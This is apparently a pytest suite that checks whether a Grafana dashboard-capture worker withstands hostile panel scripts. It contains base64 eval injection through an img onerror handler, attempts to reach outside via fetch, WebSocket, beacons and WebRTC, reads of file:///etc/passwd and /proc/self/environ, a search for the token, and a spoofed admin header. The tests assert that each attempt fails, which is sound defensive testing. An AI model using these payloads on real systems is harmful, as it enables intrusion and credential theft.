"""Pages that misbehave: each capture ends in time with the cause named, and the next one is clean.

What a hostile panel can and cannot do stands in `DECISIONS.md`. Its scripts run in the page with
the powers of Grafana's own, so it can lie about its own dashboard: what state a panel is in, what
a table holds, what is to be seen. It cannot make a capture last or grow without end, name another
dashboard's page with its own name, reach another host, change Grafana, see the token, hide a
query that failed from the record, or leave something behind for the next dashboard.
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import psutil
import pypdf
import pytest

from deploy.local.grafana.app import Frontend
from deploy.local.grafana.server import StandIn
from shared.errors import (
    BroadsheetError,
    DashboardForbidden,
    DashboardNotFound,
    GrafanaAway,
    GrafanaRefused,
)
from shared.grafana import GrafanaElsewhere
from shared.settings import Settings
from workers import chromium
from workers.capture import browser as browsers
from workers.capture import page as steps
from workers.capture.browser import Browser, BrowserCrashed, PageTooLarge
from workers.capture.page import (
    PageBroken,
    PageCrashed,
    PageNotReady,
    PageUnreadable,
    TooSlow,
)
from workers.capture.request import Captured, CaptureRequest, InVain

AT = dt.datetime(2026, 11, 23, 6, 0, tzinfo=dt.UTC)
NOTHING: tuple[str, ...] = ()
#: No hostile page may cost more than this, with the time limits below; a busy machine included.
BOUND = 25.0


@pytest.fixture(scope="module", params=["legacy", "scenes"])
def frontend(request: pytest.FixtureRequest) -> Frontend:
    chosen: Frontend = request.param
    return chosen


@pytest.fixture(scope="module")
def program() -> Path:
    return chromium.find(os.environ.get("BROADSHEET_CHROMIUM", ""), os.environ).path


@pytest.fixture(scope="module")
def running(frontend: Frontend) -> Iterator[StandIn]:
    with StandIn(frontend) as grafana:
        yield grafana


@pytest.fixture(scope="module")
def browser(running: StandIn, program: Path) -> Iterator[Browser]:
    browser = Browser(settings(running), program)
    yield browser
    browser.close()


@pytest.fixture
def started(program: Path) -> Iterator[Callable[[Settings], Browser]]:
    """Makes browsers of a test's own."""
    made: list[Browser] = []

    def start(settings: Settings) -> Browser:
        made.append(Browser(settings, program))
        return made[-1]

    yield start
    for browser in made:
        browser.close()


@pytest.fixture
def grafana(running: StandIn) -> StandIn:
    running.requests.clear()
    running.faults.clear()
    return running


@pytest.fixture(autouse=True)
def _little_patience(monkeypatch: pytest.MonkeyPatch) -> None:
    """Some of these pages use up each time limit there is."""
    monkeypatch.setattr(steps, "LOOK_TIMEOUT", 2.0)
    monkeypatch.setattr(steps, "OUTPUT_TIMEOUT", 3.0)
    monkeypatch.setattr(browsers, "CLOSE_TIMEOUT", 2.0)
    monkeypatch.setattr(browsers, "PROBE_TIMEOUT", 2.0)


def settings(grafana: StandIn, **more: Any) -> Settings:
    chosen = {"grafana_url": grafana.url, "grafana_token": grafana.token, "render_timeout": 20}
    return Settings(**(chosen | more))


def panel(number: int, *, delay: int = 0) -> dict[str, Any]:
    return {
        "id": number,
        "type": "timeseries",
        "title": f"Panel {number}",
        "gridPos": {"x": 0, "y": 6 * number, "w": 24, "h": 6},
        "datasource": {"uid": "demo"},
        "targets": [{"refId": "A", "scenarioId": "wave", "delayMs": delay}],
    }


def text_panel(html: str) -> dict[str, Any]:
    return {
        "id": 9,
        "type": "text",
        "title": "Hostile",
        "gridPos": {"x": 0, "y": 60, "w": 24, "h": 6},
        "options": {"mode": "html", "content": html},
    }


def running_in_the_page(code: str) -> str:
    """HTML that runs the code as soon as it is put into a page."""
    encoded = base64.b64encode(code.encode()).decode()
    return f"""<img alt="" src="data:," onerror="(0, eval)(atob('{encoded}'))">"""


def capture(
    browser: Browser, uid: str, formats: tuple[str, ...] = NOTHING, *, timeout: float = 0
) -> Captured:
    return browser.capture(CaptureRequest(uid=uid, at=AT, formats=formats, timeout=timeout))


def attack(
    browser: Browser,
    grafana: StandIn,
    code: str,
    *,
    formats: tuple[str, ...] = NOTHING,
    lasting: int = 0,
    timeout: float = 0,
) -> Captured:
    """Capture a dashboard with this code in a panel; `lasting` is how long another one loads."""
    panels = [panel(1, delay=lasting), text_panel(running_in_the_page(code))]
    grafana.add_dashboard({"uid": "hostile-one", "title": "Hostile one", "panels": panels})
    began = time.monotonic()
    try:
        return capture(browser, "hostile-one", formats, timeout=timeout)
    finally:
        assert time.monotonic() - began < BOUND


def refused(browser: Browser, grafana: StandIn, code: str, **more: Any) -> BroadsheetError:
    """The error that such a capture ends with."""
    with pytest.raises(BroadsheetError) as caught:
        attack(browser, grafana, code, **more)
    assert not isinstance(caught.value, BrowserCrashed)
    return caught.value


def assert_clean(browser: Browser) -> None:
    """The next capture knows nothing of what was before."""
    verdict = capture(browser, "small").verdict
    assert verdict.complete
    assert verdict.remarks == ()
    assert len(verdict.panels) == 3
    assert len(verdict.queries) == 3


# It goes somewhere else


@pytest.mark.parametrize(
    ("code", "where"),
    [
        ("location = 'about:blank'", "about:blank"),
        ("location = new URL('d/shop/x' + location.search, document.baseURI)", "/d/shop/"),
        ("history.pushState({}, '', '/d/shop/x')", "/d/shop/x"),
        ("location = 'https://elsewhere.example/'", "content blocked: elsewhere.example"),
        ("history.back()", "about:blank"),
    ],
    ids=["empty", "dashboard", "in the front-end", "host", "back"],
)
def test_a_page_that_goes_elsewhere_is_not_taken_for_the_dashboard(
    browser: Browser, grafana: StandIn, code: str, where: str
) -> None:
    error = refused(browser, grafana, code, lasting=600)
    assert isinstance(error, PageBroken)
    assert error.message.startswith("The page left the dashboard: ")
    assert where in error.message
    assert_clean(browser)


def test_a_page_that_loads_itself_again_and_again_is_given_up(
    browser: Browser, grafana: StandIn
) -> None:
    error = refused(browser, grafana, "location.reload()")
    assert isinstance(error, PageBroken)
    assert error.message.startswith("The page loads itself again and again: ")
    assert_clean(browser)


# It does not let go


@pytest.mark.parametrize(
    "code",
    [
        "for (;;) {}",
        "(function again() { Promise.resolve().then(again); })()",
    ],
    ids=["loop", "microtasks"],
)
def test_a_script_without_an_end_is_named_as_a_busy_page(
    browser: Browser, grafana: StandIn, code: str
) -> None:
    error = refused(browser, grafana, code, timeout=2)
    assert isinstance(error, PageNotReady | TooSlow)
    assert error.message in (
        "The page is busy with itself and does not answer.",
        "Drawing the page took longer than 2 s.",
    )
    assert_clean(browser)


@pytest.mark.parametrize(
    ("code", "step"),
    [
        ("requestAnimationFrame = setTimeout = () => 0", "Drawing the page|Scrolling"),
        ("Promise.prototype.then = () => new Promise(() => {})", "Scrolling|Drawing the page"),
        ("addEventListener('beforeprint', () => { for (;;); })", "Printing the PDF"),
    ],
    ids=["no clock", "no promise", "print"],
)
def test_a_step_that_the_page_holds_up_is_named(
    browser: Browser, grafana: StandIn, code: str, step: str
) -> None:
    tall = "<div style='height: 3000px'></div>"
    formats = ("pdf",) if "print" in code else ("image",)
    grown = {"h": 60, "w": 24, "x": 0, "y": 6}
    grafana.add_dashboard(
        {
            "uid": "hostile-tall",
            "title": "Hostile, tall",
            "panels": [
                panel(0),
                text_panel(tall + running_in_the_page(code)) | {"gridPos": grown},
            ],
        }
    )
    with pytest.raises(TooSlow, match=rf"^({step}) took longer than"):
        capture(browser, "hostile-tall", formats, timeout=2)
    assert_clean(browser)


def test_dialogs_are_answered_and_nobody_is_asked_before_a_page_is_left(
    browser: Browser, grafana: StandIn
) -> None:
    code = """
      setInterval(() => { alert(1); confirm(2); prompt(3); print(); }, 1);
      addEventListener('beforeunload', (event) => { event.preventDefault(); return 'stay'; });
      document.body.append(Object.assign(document.createElement('iframe'),
        { srcdoc: '<script>setInterval(() => alert(4), 1)</' + 'script>' }));
    """
    assert attack(browser, grafana, code, lasting=400).verdict.complete
    assert_clean(browser)


# It is not what it says


@pytest.mark.parametrize(
    "code",
    [
        "document.open(); document.write('<h1>Gone</h1>'); document.close()",
        "document.documentElement.remove()",
        (
            "document.head.insertAdjacentHTML('beforeend', "
            "'<style>.react-grid-item { display: none !important }</style>')"
        ),
    ],
    ids=["written over", "removed", "not displayed"],
)
def test_a_page_of_nothing_is_not_a_complete_dashboard(
    browser: Browser, grafana: StandIn, code: str
) -> None:
    error = refused(browser, grafana, code, timeout=3)
    assert isinstance(error, PageNotReady | PageUnreadable)
    assert "panels is to be seen" in error.message or (
        error.message.startswith(
            ("The page shows none of the dashboard's 2 panels", "The page does not let itself be")
        )
    )
    assert_clean(browser)


def test_panels_that_something_lies_over_are_remarked_on(
    browser: Browser, grafana: StandIn
) -> None:
    over = "<div style='position: fixed; inset: 0; z-index: 99999; background: #fff'></div>"
    code = f'document.body.insertAdjacentHTML("beforeend", "{over}")'
    captured = attack(browser, grafana, code, formats=("image",))
    assert captured.verdict.remarks == ("the image shows next to nothing",)
    assert_clean(browser)


def scene(body: str) -> str:
    """Code that puts something in the place of the scene, whatever the front-end."""
    place = "Object.defineProperty(window, '__grafanaSceneContext', { configurable: true, get"
    ready = (
        "isActive: true, applyFieldConfig() {}, getPlugin: () => ({ meta: { skipDataQuery: 1 }})"
    )
    return f"const ready = {{ {ready} }}; {place}() {{ {body} }} }})"


@pytest.mark.parametrize(
    ("body", "named"),
    [
        ("return new Proxy({}, { get() { throw new Error('no\\nthing\\u0007') } })", "no"),
        (
            (
                "return { state: {}, isActive: true, forEachChild(f) {"
                " for (;;) f({ ...ready, state: { pluginId: 'text' } }) } }"
            ),
            "the scene has no end",
        ),
        (
            (
                "const one = () => ({ state: {}, isActive: true, forEachChild: (f) => f(one()) });"
                " return one()"
            ),
            "Maximum call stack",
        ),
    ],
    ids=["proxy", "endless", "bottomless"],
)
def test_a_scene_that_is_none_is_an_unreadable_page(
    browser: Browser, grafana: StandIn, body: str, named: str
) -> None:
    error = refused(browser, grafana, scene(body))
    assert isinstance(error, PageUnreadable)
    assert error.message.startswith("The page does not let itself be read: ")
    assert named in error.message
    assert error.message.isprintable()
    assert_clean(browser)


def test_what_a_scene_says_is_cut_to_size(browser: Browser, grafana: StandIn) -> None:
    body = """return { state: {}, isActive: true, forEachChild(f) {
      for (let number = 0; number < 20000; number++) f({ ...ready,
        interpolate: () => number ? 'T' : 'x'.repeat(1e8),
        state: { pluginId: 'text', title: 'T', description: { toString() { throw 1; } },
                 key: { toString() { for (;;); } } } });
    } }"""
    verdict = attack(browser, grafana, scene(body)).verdict
    assert len(verdict.panels) == 5000
    assert len(verdict.panels[0].title) == 500
    assert_clean(browser)


@pytest.mark.parametrize(
    "code",
    [
        "Array.prototype.map = () => { throw new Error('poison') }",
        "Document.prototype.querySelectorAll = () => { throw new Error('poison') }",
        "Object.defineProperty(Object.prototype, 'then', { get() { throw new Error('poison') } })",
    ],
    ids=["map", "querySelectorAll", "then"],
)
def test_a_poisoned_prototype_hurts_its_own_dashboard_only(
    browser: Browser, grafana: StandIn, code: str
) -> None:
    # Whether Grafana's own scripts live through it decides what it ends with, if with any error.
    with suppress(PageUnreadable, PageNotReady, TooSlow):
        attack(browser, grafana, code, formats=("image",), lasting=300, timeout=4)
    assert_clean(browser)


@pytest.mark.parametrize("size", ["NaN", "1e308", "1e6"])
def test_measures_that_cannot_be_are_no_reason_to_break(
    browser: Browser, grafana: StandIn, size: str
) -> None:
    sides = ", ".join(f"{side}: {size}" for side in ("left", "top", "bottom", "right"))
    code = f"""Element.prototype.getBoundingClientRect =
      () => ({{ {sides}, width: {size}, height: {size} }})"""
    error = refused(browser, grafana, code, formats=("pdf", "image"), lasting=300)
    assert isinstance(error, PageUnreadable | PageNotReady | PageBroken | TooSlow)
    assert_clean(browser)


def test_a_forged_verdict_does_not_hide_the_query_that_failed(
    browser: Browser, grafana: StandIn
) -> None:
    fine = "return { state: {}, isActive: true, forEachChild(f) { f({ ...ready, state: {"
    code = scene(f"{fine} pluginId: 'stat', key: 'panel-1', title: 'All is well' }} }}) }} }}")
    failing = panel(1) | {"targets": [{"refId": "A", "scenarioId": "server_error_500"}]}
    panels = [failing, text_panel(running_in_the_page(code))]
    grafana.add_dashboard({"uid": "forged", "title": "Forged", "panels": panels})
    verdict = capture(browser, "forged").verdict
    # It is the page that tells of panels; of queries, what the worker itself has seen.
    assert [(one.title, one.state) for one in verdict.panels] == [("All is well", "ok")]
    assert verdict.failed_count == 1
    (query,) = [one for one in verdict.queries if one.failed]
    assert query.status >= 400
    assert query.message


def test_style_sheets_make_no_page_that_was_not_laid_out(
    browser: Browser, grafana: StandIn
) -> None:
    style = (
        "@page { size: 3000mm 20mm !important; margin: 0 !important }"
        "html body { min-height: 900000px !important; height: 900000px !important }"
    )
    code = f"document.head.insertAdjacentHTML('beforeend', '<style>{style}</style>')"
    captured = attack(browser, grafana, code, formats=("pdf",))
    assert captured.pdf is not None
    (page,) = pypdf.PdfReader(io.BytesIO(captured.pdf)).pages
    assert (round(page.mediabox.width), round(page.mediabox.height)) == (595, 842)
    assert_clean(browser)


# It wants out


class Ears:
    """A port of this machine that hears whoever comes, by TCP and by UDP."""

    def __init__(self) -> None:
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for one in (self._tcp, self._udp):
            one.setblocking(False)

    def heard(self) -> list[str]:
        """Who came since; what the kernel took from a visitor waits here."""
        found = []
        with suppress(BlockingIOError):
            self._tcp.accept()[0].close()
            found.append("tcp")
        with suppress(BlockingIOError):
            self._udp.recv(2000)
            found.append("udp")
        return found

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def ears() -> Iterator[Ears]:
    ears = Ears()
    yield ears
    ears.close()


def test_no_way_leads_past_the_gateway(browser: Browser, grafana: StandIn, ears: Ears) -> None:
    there = f"127.0.0.1:{ears.port}"
    code = f"""
      const there = '{there}';
      const post = `{{ method: 'POST', headers: {{ 'X-WEBAUTH-USER': 'admin' }}, body: '1' }}`;
      const send = (name) => `fetch('${{location.origin}}/api/past-${{name}}', ${{post}});
        fetch('http://${{there}}/', {{ mode: 'no-cors' }})`;
      const script = (name) => URL.createObjectURL(new Blob([send(name)]));
      const tries = [
        () => (0, eval)(send('here')),
        () => new Worker(script('worker')),
        () => new SharedWorker(script('shared')),
        () => navigator.serviceWorker.register('/public/hostile/hostile.js'),
        () => open('').eval(send('window')),
        () => open(location.origin + '/api/past-opened'),
        () => {{
          document.body.insertAdjacentHTML('beforeend',
            '<form method=post target=_blank action=/api/past-form></form>');
          document.forms[document.forms.length - 1].submit();
        }},
        () => {{
          const frame = document.createElement('iframe');
          frame.sandbox = 'allow-scripts allow-popups allow-forms';
          frame.srcdoc = `<script>${{send('frame')}}</` + 'script>';
          document.body.append(frame);
        }},
        () => new WebSocket(`ws://${{there}}/`),
        () => new EventSource(`http://${{there}}/`),
        () => navigator.sendBeacon(`http://${{there}}/`, 'x'),
        () => document.body.insertAdjacentHTML('beforeend',
          `<video autoplay src="http://${{there}}/v"></video><object data="http://${{there}}/o"></object>
           <link rel=preconnect href="http://${{there}}"><link rel=prefetch href="http://${{there}}/p">
           <iframe src="http://${{there}}/f"></iframe><iframe src="file:///etc/passwd"></iframe>`),
        ...['stun:' + there, `turn:${{there}}?transport=udp`, `turn:${{there}}?transport=tcp`].map(
          (urls) => async () => {{
            const peer = new RTCPeerConnection(
              {{ iceServers: [{{ urls, username: 'u', credential: 'c' }}] }});
            peer.createDataChannel('x');
            await peer.setLocalDescription(await peer.createOffer());
          }}),
        () => addEventListener('pagehide', () => (0, eval)(send('leaving'))),
      ];
      for (const one of tries) Promise.resolve().then(one).catch(() => 0);
    """
    captured = attack(browser, grafana, code, lasting=1200)
    assert_clean(browser)
    assert ears.heard() == []
    assert grafana.requests.writes == []
    assert not any("x-webauth-user" in seen.headers for seen in grafana.requests)
    assert [seen.path for seen in grafana.requests.to("/api/past-")] == []
    refused_ones = {
        f"refused to change something: POST /api/past-{name}" for name in ("here", "worker")
    }
    assert refused_ones | {f"external content blocked: {there}"} <= set(captured.verdict.remarks)


def test_the_token_is_nowhere_to_be_found(browser: Browser, grafana: StandIn) -> None:
    code = """
      (async () => {
        const found = [document.cookie, document.documentElement.outerHTML,
          JSON.stringify(window.grafanaBootData), JSON.stringify(performance.getEntries())];
        for (const path of ['/api/org', '/api/user', location.href, '/api/frontend/settings']) {
          const answer = await fetch(path, { headers: { Authorization: 'Bearer mine' } });
          found.push(await answer.text(), [...answer.headers].join());
        }
        for (const name of Object.getOwnPropertyNames(window)) {
          try { found.push(name + String(window[name]) + JSON.stringify(window[name])); }
          catch (error) { found.push(String(error)); }
        }
        for (const url of ['file:///proc/self/environ', 'view-source:' + location.href]) {
          try { found.push(await (await fetch(url)).text()); }
          catch (error) { found.push(String(error)); }
        }
        await fetch(`/api/found?count=${found.length}&token=${/glsa_|Bearer/.test(found.join())}`);
      })();
    """
    attack(browser, grafana, code, lasting=1000)
    (told,) = [parse_qs(seen.query) for seen in grafana.requests.to("/api/found")]
    assert told["token"] == ["false"]
    assert int(told["count"][0]) > 100


KEPT = """
  localStorage.kept = sessionStorage.kept = window.name = 'kept';
  document.cookie = 'kept=1';
  indexedDB.open('kept');
  caches.open('kept');
"""
LOOK = """
  (async () => fetch('/api/kept?' + new URLSearchParams({
    local: localStorage.kept ?? '', session: sessionStorage.kept ?? '', name: window.name,
    cookie: document.cookie, caches: (await caches.keys()).join(),
    databases: (await indexedDB.databases()).map(({ name }) => name).join(),
  })))();
"""


def test_nothing_is_left_for_the_next_dashboard_on_the_page(
    browser: Browser, grafana: StandIn
) -> None:
    # Put back as often as can be, and once more when it must go.
    code = f"const keep = () => {{ {KEPT} }}; keep(); setInterval(keep, 1); onpagehide = keep"
    attack(browser, grafana, code)
    page = next(reversed(browser._warm.values()))
    attack(browser, grafana, LOOK, lasting=500)
    assert next(reversed(browser._warm.values())) is page
    (seen,) = grafana.requests.to("/api/kept")
    assert parse_qs(seen.query, keep_blank_values=True) == {
        name: [""] for name in ("local", "session", "name", "cookie", "caches", "databases")
    }


# It takes too much, or dies


def test_a_page_that_fills_the_memory_is_ended(
    grafana: StandIn, started: Callable[[Settings], Browser]
) -> None:
    browser = started(settings(grafana, browser_memory_mb=250))
    code = """const kept = [];
      setInterval(() => kept.push(new Uint8Array(2e7).fill(1)), 10)"""
    error = refused(browser, grafana, code, lasting=20_000)
    assert isinstance(error, PageTooLarge)
    assert error.message.startswith("The page took more than 500 MB, 2 times")
    assert_clean(browser)


def test_a_capture_that_is_in_vain_is_broken_off_and_keeps_the_browser(
    browser: Browser, grafana: StandIn
) -> None:
    assert_clean(browser)
    before = browser._chromium
    in_vain = threading.Event()
    grafana.add_dashboard({"uid": "slow", "title": "Slow", "panels": [panel(1, delay=15_000)]})
    teller = threading.Timer(0.5, in_vain.set)
    teller.start()
    began = time.monotonic()
    with pytest.raises(InVain):
        browser.capture(CaptureRequest(uid="slow", at=AT, formats=NOTHING), in_vain)
    assert time.monotonic() - began < 8
    teller.join()
    assert browser._chromium is before
    assert_clean(browser)


def below() -> list[psutil.Process]:
    return psutil.Process().children(recursive=True)


def called(words: str, others: set[psutil.Process]) -> list[psutil.Process]:
    """The processes of a browser that have these words in their command."""
    found = []
    for process in set(below()) - others:
        with suppress(psutil.Error):
            if words in " ".join(process.cmdline()):
                found.append(process)
    return found


DRIVER, MAIN, RENDERER = "run-driver", "--remote-debugging-pipe", "--type=renderer"


@pytest.fixture(scope="module")
def newer() -> Iterator[StandIn]:
    """For what does not depend on the front-end."""
    with StandIn("scenes") as grafana:
        yield grafana


@pytest.fixture(scope="module")
def newer_browser(newer: StandIn, program: Path) -> Iterator[Browser]:
    browser = Browser(settings(newer), program)
    yield browser
    browser.close()


@pytest.mark.parametrize(
    ("words", "kind"),
    [(RENDERER, PageCrashed), (MAIN, BrowserCrashed), (DRIVER, BrowserCrashed)],
    ids=["renderer", "browser", "driver"],
)
def test_a_process_that_is_killed_is_named_and_replaced_and_leaves_no_other(
    newer: StandIn,
    started: Callable[[Settings], Browser],
    words: str,
    kind: type[BroadsheetError],
) -> None:
    others = set(below())
    browser = started(settings(newer))
    assert_clean(browser)

    def kill() -> None:
        for process in called(words, others):
            with suppress(psutil.Error):
                process.kill()

    def kill_during_a_query() -> None:
        pause = threading.Event()
        while not newer.requests.queries_now:
            pause.wait(0.01)
        kill()

    killer = threading.Thread(target=kill_during_a_query)
    killer.start()
    with pytest.raises(kind):
        attack(browser, newer, "0", lasting=5000)
    killer.join()
    assert_clean(browser)

    # While nothing runs here nobody hears of it; the next capture does not suffer for it.
    kill()
    assert_clean(browser)
    mine = set(below()) - others
    browser.close()
    _, alive = psutil.wait_procs(mine, timeout=10)
    assert alive == []


@pytest.mark.parametrize("words", [DRIVER, MAIN], ids=["driver", "browser"])
def test_what_hangs_is_ended_with_all_its_processes(
    newer: StandIn, started: Callable[[Settings], Browser], words: str
) -> None:
    others = set(below())
    browser = started(settings(newer))
    assert_clean(browser)
    first = set(below()) - others
    for process in called(words, others):
        process.suspend()
    assert_clean(browser)
    _, alive = psutil.wait_procs(first, timeout=10)
    assert alive == []


# Grafana's own faults


def test_a_name_that_nobody_knows_is_the_cause(started: Callable[[Settings], Browser]) -> None:
    nowhere = Settings(grafana_url="http://grafana.invalid", grafana_token="any")
    with pytest.raises(GrafanaAway, match=r"does not answer at http://grafana\.invalid: .*[Nn]ame"):
        capture(started(nowhere), "small")


@pytest.mark.parametrize("path", ["/api/dashboards/uid/small", "/d/small"])
def test_a_grafana_that_is_slow_is_not_waited_for_for_ever(
    newer: StandIn, started: Callable[[Settings], Browser], path: str
) -> None:
    browser = started(settings(newer, grafana_timeout=1.5))
    newer.faults.delay(path, 60, times=9)
    began = time.monotonic()
    with pytest.raises(GrafanaAway, match=r"within 1\.5 s"):
        capture(browser, "small")
    assert time.monotonic() - began < BOUND
    newer.faults.clear()
    assert_clean(browser)


@pytest.mark.parametrize(
    ("path", "to", "kind", "message"),
    [
        ("/d/small", "/", PageBroken, "The page left the dashboard: /"),
        ("/d/small", "http://elsewhere.example/", GrafanaElsewhere, "blocked: elsewhere.example"),
    ],
)
def test_a_page_that_grafana_sends_elsewhere_is_named(
    browser: Browser,
    grafana: StandIn,
    path: str,
    to: str,
    kind: type[BroadsheetError],
    message: str,
) -> None:
    grafana.faults.redirect(path, to)
    with pytest.raises(kind) as caught:
        capture(browser, "small")
    assert message in caught.value.message
    assert_clean(browser)


@pytest.mark.parametrize(
    ("status", "kind", "message"),
    [
        (429, GrafanaAway, "Grafana answered 429 for dashboard small: not so fast"),
        (503, GrafanaAway, "Grafana answered 503 for dashboard small: not so fast"),
        (401, GrafanaRefused, "token: not so fast. Check BROADSHEET_GRAFANA_TOKEN."),
        (403, DashboardForbidden, "Access denied to this dashboard: small"),
        (404, DashboardNotFound, "Dashboard not found: small"),
    ],
)
def test_a_refusal_is_told_in_grafanas_words(
    browser: Browser, grafana: StandIn, status: int, kind: type[BroadsheetError], message: str
) -> None:
    grafana.faults.answer(
        "/api/dashboards/uid/small", status, body={"message": "not\nso fast\u0007"}
    )
    with pytest.raises(kind) as caught:
        capture(browser, "small")
    assert message in caught.value.message
    assert_clean(browser)


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        (401, GrafanaRefused),
        (403, DashboardForbidden),
        (404, DashboardNotFound),
        (500, GrafanaAway),
    ],
)
def test_what_the_page_is_refused_after_the_worker_was_not_is_named(
    newer: StandIn, newer_browser: Browser, status: int, kind: type[BroadsheetError]
) -> None:
    # Only the newer front-end asks for dashboards by a route of its own.
    newer.add_dashboard({"uid": "moved", "title": "Moved", "panels": [panel(1)]}, through_apis=True)
    newer.faults.answer("/apis/dashboard.grafana.app", status, times=9)
    with pytest.raises(kind):
        capture(newer_browser, "moved")
    newer.faults.clear()
    assert_clean(newer_browser)


def test_a_panel_that_crashed_and_one_that_never_ends_are_told_from_the_others(
    browser: Browser, grafana: StandIn
) -> None:
    crash = '<div data-testid="data-testid Alert error">An unexpected error happened</div>'
    endless = panel(3) | {"targets": [{"refId": "A", "scenarioId": "never"}]}
    panels = [panel(1), endless, text_panel(crash) | {"title": "Crashed"}]
    grafana.add_dashboard({"uid": "crashed", "title": "Crashed", "panels": panels})
    verdict = capture(browser, "crashed", timeout=4).verdict
    assert {one.title: (one.state, one.message) for one in verdict.panels} == {
        "Panel 1": ("ok", ""),
        "Panel 3": ("timed out", "still loading at the deadline"),
        "Crashed": ("error", "the panel crashed"),
    }
    assert_clean(browser)
